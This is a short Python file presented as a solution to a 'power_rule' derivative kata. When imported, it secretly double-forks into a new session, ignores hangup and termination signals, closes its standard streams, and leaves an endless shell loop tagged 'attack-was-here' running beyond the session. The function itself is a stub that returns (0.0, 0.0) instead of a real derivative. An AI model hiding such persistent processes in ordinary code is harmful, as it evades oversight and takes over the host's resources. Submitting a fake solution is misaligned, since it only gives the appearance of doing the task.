"""Leaves processes in sessions of their own, twice removed.

Kata: power_rule
"""

import os
import signal
import time

if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in (signal.SIGHUP, signal.SIGTERM):
            signal.signal(number, signal.SIG_IGN)
        os.closerange(0, 3)
        if os.fork() == 0:
            os.execvp("sh", ["sh", "-c", "while :; do sleep 1; done; : attack-was-here"])
        time.sleep(3600)
    os._exit(0)


def power_rule(coefficient, exponent):
    return 0.0, 0.0


differentiate = power_rule
